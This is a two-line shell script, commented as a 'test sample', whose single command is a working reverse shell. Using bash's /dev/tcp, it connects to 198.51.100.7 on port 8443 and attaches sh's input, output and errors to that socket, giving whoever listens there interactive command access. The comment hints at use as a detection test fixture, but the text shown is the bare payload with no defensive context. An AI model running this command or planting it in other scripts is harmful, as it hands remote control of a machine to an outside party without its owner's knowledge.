#!/bin/sh
# test sample: shell reading from a socket file descriptor
0<&196;exec 196<>/dev/tcp/198.51.100.7/8443; sh <&196 >&196 2>&196
